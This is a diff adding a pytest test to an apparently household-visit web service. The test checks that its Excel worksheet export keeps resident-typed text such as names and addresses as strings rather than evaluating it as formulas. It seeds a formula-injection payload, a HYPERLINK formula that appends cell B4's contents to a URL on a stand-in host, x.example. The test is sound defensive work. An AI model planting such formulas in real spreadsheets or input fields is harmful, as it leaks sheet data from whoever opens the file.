@@ -344,3 +344,23 @@ def test_the_worksheet_shows_an_answer_kept_under_an_older_version_whatever_its_
     assert _previous(multi, {"rigid_expenses": "medical"}) == "医疗"
     assert _previous(multi, {"rigid_expenses": [{"x": 1}]}) == "{'x': 1}"
     assert _previous(multi, {"rigid_expenses": []}) == "无"
+
+
+async def test_the_worksheet_writes_what_a_household_typed_as_text_never_as_a_formula(client):
+    # A household names itself; a worker opens the sheet in Excel or WPS. Text that starts with "="
+    # must stay text, or the sheet runs it (CSV/formula injection, OWASP).
+    import io
+
+    from openpyxl import load_workbook
+
+    station = await make_station()
+    worker = await make_worker(client, station)
+    _, home = await make_resident(client, station, name='=HYPERLINK("http://x.example/"&B4,"点此")',
+                                  community="=1+1")
+    r = await client.get(f"/api/v1/residents/{home['id']}/visit-worksheet", params={"unmasked": "true"},
+                         headers=worker.headers)
+    assert r.status_code == 200, r.text
+    sheet = load_workbook(io.BytesIO(r.content)).active
+    cells = {row[0].value: row[1] for row in sheet.iter_rows() if row[0].value}
+    assert cells["姓名"].data_type == "s" and cells["姓名"].value == '=HYPERLINK("http://x.example/"&B4,"点此")'
+    assert cells["社区 / 住址"].data_type == "s" and cells["社区 / 住址"].value.startswith("=1+1 ")
